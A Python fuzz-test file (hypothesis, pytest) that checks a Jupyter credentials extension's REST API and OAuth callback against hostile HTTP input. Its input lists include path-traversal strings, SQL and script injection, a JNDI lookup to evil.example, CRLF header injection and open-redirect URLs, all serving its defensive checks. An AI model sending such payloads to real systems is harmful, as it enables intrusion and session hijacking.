"""Hostile input, property-based (hypothesis, bounded), against the real server over raw HTTP:
huge and malformed ids, states, codes, ``iss``, query strings, JSON bodies, unicode, path
traversal, header injection, open-redirect parameters.

Every answer is a 4xx JSON error (REST) or the escaped error page (callback), or a normal answer
to a request that happens to be valid; never a 5xx, never a redirect to another host, never a
reflected header. Afterwards nothing is stored and no secret is in the logs.

The tests are plain functions that drive the server's event loop for each example
(``run_until_complete``): the server runs on that loop, so it answers while the example waits.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
from html.parser import HTMLParser
from urllib.parse import parse_qs, quote, quote_from_bytes, urlencode, urlsplit

import pytest
from conftest import ANALYTICS_ID, BROKEN_ID, SENTINEL_SECRET, WAREHOUSE_ID
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from raw_http import Answer, raw_request

from jupyter_creds.handlers import route_table

# hypothesis, when it reports a failing example, touches mypy_extensions, which warns: the warning
# would hide the report under `-W error`.
pytestmark = pytest.mark.filterwarnings(
    "ignore:mypy_extensions.TypedDict is deprecated:DeprecationWarning"
)
REST_EXAMPLES = 1200
CALLBACK_EXAMPLES = 400
FUZZ_SETTINGS = {
    "deadline": None,  # one example is one or two loopback requests; timeouts bound them
    "database": None,  # nothing written into the checkout
    "suppress_health_check": [
        HealthCheck.function_scoped_fixture,  # one server for all examples, on purpose
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
}
EVIL = "https://evil.example/steal"
INJECTED = "\r\nX-Injected: 1\r\nSet-Cookie: injected=1"
PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "p", "script", "strong"}

# -- the server under test ----------------------------------------------------------------------


class Target:
    """The server under test, and what the fuzzing saw. (Not a dataclass: hypothesis prints a
    failing example's arguments, and this repr shows no secret.)"""

    def __init__(self, loop, port, base, token, kernel_secret, creds, issuer, redirect_uri):
        self.loop: asyncio.AbstractEventLoop = loop
        self.port: int = port
        self.base: str = base  # the server's base_url, e.g. /a%40b/
        self.token: str = token
        self.kernel_secret: str = kernel_secret
        self.creds = creds
        self.issuer: str = issuer
        self.redirect_uri: str = redirect_uri
        self.tried = 0
        self.planted: set[str] = set()  # states, verifiers and nonces the server issued

    def __repr__(self) -> str:  # hypothesis prints it with a failing example: no secrets
        return f"Target(port={self.port}, base={self.base!r})"

    def send(self, method: str, target: str | bytes, headers=(), body: bytes = b"") -> Answer:
        raw = target if isinstance(target, bytes) else target.encode("utf-8")
        answer = self.loop.run_until_complete(
            raw_request(
                self.port, method, raw, [(k.encode(), v.encode()) for k, v in headers], body
            )
        )
        self.tried += 1
        if answer is None:
            # only requests beyond tornado's size limits may be refused that way
            assert len(raw) + sum(len(v) for _, v in headers) > 60_000, target
            return Answer(431, [], b"")
        return answer

    def remember_pending(self) -> None:
        for pending in self.creds.signin._pending.values():
            self.planted.update((pending.code_verifier, pending.nonce))

    def fresh_state(self) -> str:
        """A state this server issued for a sign-in (the callback's only credential)."""
        answer = self.send(
            "POST",
            f"{self.base}api/creds/integrations/{ANALYTICS_ID}/signin",
            [("Authorization", f"token {self.token}")],
        )
        assert answer.status == 200, answer.text
        url = json.loads(answer.body)["authorization_url"]
        state = parse_qs(urlsplit(url).query)["state"][0]
        self.planted.add(state)
        self.remember_pending()
        return state


@pytest.fixture
def target(
    debug_logs, api, jp_serverapp, jp_asyncio_loop, jp_http_port, jp_base_url, creds_app, provider
):
    t = Target(
        loop=jp_asyncio_loop,
        port=jp_http_port,
        base=jp_base_url,
        token=jp_serverapp.identity_provider.token,
        kernel_secret=os.environ["JUPYTER_CREDS_TOKEN"],
        creds=creds_app,
        issuer=provider.issuer,
        redirect_uri=creds_app.redirect_uri(),
    )
    jp_asyncio_loop.run_until_complete(creds_app.registry.ready())
    yield t
    # Then: nothing was ever stored, and no secret reached the logs
    assert creds_app.store.summaries() == {}
    t.remember_pending()
    for secret in (SENTINEL_SECRET, t.kernel_secret, *t.planted):
        assert secret not in debug_logs.text, "a secret reached the logs"
    print(
        f"inputs tried: {t.tried}, 5xx: 0, foreign redirects: 0, reflected headers: 0, "
        f"tokens stored: 0, secrets in {len(debug_logs.lines)} log lines: 0 "
        f"(planted: {len(t.planted) + 2})"
    )


def check_common(t: Target, answer: Answer, request: str) -> None:
    assert answer.status < 500, (request, answer.status, answer.text[:500])
    location = answer.header("Location")
    if location is not None:
        netloc = urlsplit(location).netloc
        assert netloc in ("", f"127.0.0.1:{t.port}", f"localhost:{t.port}"), (request, location)
    for name, value in answer.headers:
        assert name.lower() not in ("x-injected",), request
        assert "injected=1" not in value, (request, name, value)
    assert "Traceback (most recent call last)" not in answer.text, request
    if (answer.header("Content-Type") or "").startswith("application/json") and answer.body:
        assert not json.loads(answer.body).get("traceback"), request


# -- REST ----------------------------------------------------------------------------------------

ROUTES = [re.compile(pattern + "$") for pattern, _ in route_table() if pattern.startswith("api/")]
ROUTE_TEMPLATES = [
    "integrations",
    "integrations/{id}",
    "integrations/{id}/signin",
    "integrations/{id}/signout",
    "integrations/{id}/snippet",
    "credentials",
    "integrations/{id}/{id}",
    "{id}",
]
TRICKY_IDS = [
    ANALYTICS_ID,
    WAREHOUSE_ID,
    BROKEN_ID,
    ANALYTICS_ID.upper(),
    ANALYTICS_ID + " ",
    "{" + ANALYTICS_ID + "}",
    "00000000-0000-0000-0000-000000000000",
    "",
    ".",
    "..",
    "../..",
    "..%2f..%2fcontents",
    "%2e%2e%2f%2e%2e%2fapi%2fcontents",
    "%00",
    "%ff%fe",
    "%",
    "null",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "\u202e" + ANALYTICS_ID,
    "x" * 5000,
    EVIL,
    INJECTED,
]
PROBED_HEADERS = ["X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-For", "Forwarded"]
PROBED_HEADERS += ["Origin", "Referer", "Cookie", "Accept", "X-XSRFToken", "Content-Type"]
PARAM_KEYS = ["audience", "language", "next", "redirect_uri", "return_to", "url", "state", "iss"]
text = st.text(max_size=80)
ids = st.one_of(st.sampled_from(TRICKY_IDS), text, st.binary(max_size=40))
values = st.one_of(st.sampled_from([*TRICKY_IDS, "python", "r", "R", "PYTHON", "julia"]), text)
header_values = st.text(
    alphabet=st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"),
    max_size=200,
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=4),
    max_leaves=12,
)


def encode_id(value: str | bytes, raw: bool) -> str:
    if isinstance(value, bytes):
        return quote_from_bytes(value, safe="")
    # raw: as typed, where HTTP allows it (a space would end the request target)
    usable = value.isascii() and value.isprintable() and " " not in value
    return value if raw and usable else quote(value, safe="")


@st.composite
def rest_requests(draw):
    method = draw(st.sampled_from(["GET", "GET", "POST", "POST", "PUT", "DELETE", "PATCH", "HEAD"]))
    template = draw(st.sampled_from(ROUTE_TEMPLATES))
    raw = draw(st.booleans())
    path = template.replace("{id}", encode_id(draw(ids), raw))
    params = draw(st.lists(st.tuples(st.sampled_from(PARAM_KEYS) | text, values), max_size=5))
    query = urlencode(params) if not draw(st.booleans()) else encode_id(draw(ids), True)
    auth = draw(st.sampled_from(["token", "token", "kernel", "none", "junk"]))
    headers = draw(
        st.lists(
            st.tuples(
                st.sampled_from(PROBED_HEADERS),
                header_values,
            ),
            max_size=4,
        )
    )
    kind = draw(st.sampled_from(["json", "bytes", "form", "none"]))
    body = {
        "json": lambda: json.dumps(draw(json_values)).encode(),
        "bytes": lambda: draw(st.binary(max_size=300)),
        "form": lambda: urlencode(params).encode(),
        "none": lambda: b"",
    }[kind]()
    return method, path, query, auth, headers, body


@settings(max_examples=REST_EXAMPLES, **FUZZ_SETTINGS)
@given(request=rest_requests())
def test_rest_api_answers_hostile_input_with_4xx_json(target: Target, request) -> None:
    method, path, query, auth, headers, body = request
    t = target
    credentials = {
        "token": [("Authorization", f"token {t.token}")],
        "kernel": [("Authorization", f"Bearer {t.kernel_secret}")],
        "junk": [("Authorization", "Bearer " + "j" * 40)],
        "none": [],
    }[auth]
    url = f"{t.base}api/creds/{path}" + (f"?{query}" if query else "")
    answer = t.send(method, url, credentials + headers, body)
    check_common(t, answer, url)
    if method == "POST" and "/signin" in path:
        t.remember_pending()
    ours = any(r.match(f"api/creds/{path}") for r in ROUTES)
    if answer.status >= 400 and ours and method != "HEAD" and answer.status != 431:
        # our handlers' errors: JSON with a message for people and a reason code
        assert (answer.header("Content-Type") or "").startswith("application/json"), url
        error = json.loads(answer.body)
        assert isinstance(error.get("message"), str), (url, error)
        assert error["message"], (url, error)
        assert "reason" in error, (url, error)
    if answer.status == 200 and b"authorization_url" in answer.body:
        # a sign-in started by a valid request: the provider's page, our own redirect URI
        url_out = json.loads(answer.body)["authorization_url"]
        assert url_out.startswith(t.issuer + "/"), url_out
        assert parse_qs(urlsplit(url_out).query)["redirect_uri"] == [t.redirect_uri]
    assert b'"access_token":' not in answer.body  # nobody is signed in, whatever was asked


def test_huge_ids_and_queries_are_refused_without_a_5xx(target: Target) -> None:
    t = target
    auth = [("Authorization", f"token {t.token}")]
    for size in (10_000, 50_000, 100_000, 1_000_000):
        for url in (
            f"{t.base}api/creds/integrations/{'a' * size}",
            f"{t.base}api/creds/credentials?audience={'a' * size}",
            f"{t.base}creds/oauth/callback?state={'s' * size}&code=c",
        ):
            answer = t.send("GET", url, auth)
            check_common(t, answer, url[:80])
            assert 400 <= answer.status < 500, (size, url[:80], answer.status)
    body = json.dumps({"x": "y" * 5_000_000}).encode()
    answer = t.send("POST", f"{t.base}api/creds/integrations/{ANALYTICS_ID}/signout", auth, body)
    assert answer.status < 500


# -- the callback --------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)


callback_values = st.one_of(
    st.sampled_from(["", "<b>bold</b>", "</script><script>alert(1)</script>", EVIL, INJECTED]),
    st.text(max_size=120),
)


@st.composite
def callback_requests(draw):
    state = draw(st.sampled_from(["fresh", "fresh", "random", "missing", "twice"]))
    params = {
        "code": draw(callback_values),
        "iss": draw(st.sampled_from(["issuer", "issuer/", "missing"]) | callback_values),
        "error": draw(st.sampled_from(["missing", "access_denied"]) | callback_values),
        "error_description": draw(st.sampled_from(["missing"]) | callback_values),
        "random_state": draw(callback_values),
    }
    extra = draw(
        st.lists(
            st.tuples(st.sampled_from(["next", "redirect_uri", "url"]) | text, callback_values)
        )
    )
    return state, params, extra


@settings(max_examples=CALLBACK_EXAMPLES, **FUZZ_SETTINGS)
@given(request=callback_requests())
def test_callback_answers_hostile_input_with_the_escaped_error_page(target: Target, request):
    state_kind, params, extra = request
    t = target
    query: list[tuple[str, str]] = []
    if state_kind in ("fresh", "twice"):
        query.append(("state", t.fresh_state()))
        if state_kind == "twice":
            query.append(("state", params["random_state"]))
    elif state_kind == "random":
        query.append(("state", params["random_state"]))
    for name in ("code", "iss", "error", "error_description"):
        value = params[name]
        if value == "missing":
            continue
        query.append((name, {"issuer": t.issuer, "issuer/": t.issuer + "/"}.get(value, value)))
    query += extra
    url = f"{t.base}creds/oauth/callback?{urlencode(query)}"
    answer = t.send("GET", url)

    check_common(t, answer, url)
    # no valid code anywhere: the sign-in never completes
    assert 400 <= answer.status < 500, (url, answer.status, answer.text[:300])
    assert answer.header("Content-Type").startswith("text/html")
    assert answer.header("Referrer-Policy") == "no-referrer"
    assert "default-src 'none'" in answer.header("Content-Security-Policy")
    assert "Sign-in did not complete" in answer.text
    # everything the request said is escaped: no new element, no raw markup
    parser = _Tags()
    parser.feed(answer.text)
    assert parser.tags <= PAGE_TAGS, (url, parser.tags - PAGE_TAGS)
    for _, value in query:
        # raw markup from the request (a tag opener followed by anything) must not appear as is
        if re.search(r"<[A-Za-z/!?]", value):
            assert value not in answer.text, value
    assert answer.text.count("<script") == 2


def test_open_redirect_parameters_never_redirect_elsewhere(target: Target) -> None:
    t = target
    auth = [("Authorization", f"token {t.token}")]
    evil_params = urlencode([(k, EVIL) for k in ("next", "redirect_uri", "return_to", "url")])
    urls = [
        f"{t.base}api/creds/integrations?{evil_params}",
        f"{t.base}api/creds/integrations/{ANALYTICS_ID}/signin?{evil_params}",
        f"{t.base}api/creds/credentials?audience={ANALYTICS_ID}&{evil_params}",
        f"{t.base}creds/oauth/callback?state={t.fresh_state()}&error=x&{evil_params}",
        f"{t.base}creds/oauth/callback?{evil_params}",
        f"{t.base}creds/oauth/callback/..%2f..%2f?{evil_params}",
        f"{t.base}creds/oauth/callback?state=x&code=y&iss={quote(EVIL)}",
    ]
    headers = [("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https")]
    for url in urls:
        for method in ("GET", "POST"):
            for extra in ([], headers, [("Host", "evil.example")]):
                answer = t.send(method, url, auth + extra, b"{}")
                check_common(t, answer, url)
                assert EVIL not in (answer.header("Location") or "")
                if b"authorization_url" in answer.body:
                    out = json.loads(answer.body)["authorization_url"]
                    assert parse_qs(urlsplit(out).query)["redirect_uri"] == [t.redirect_uri]
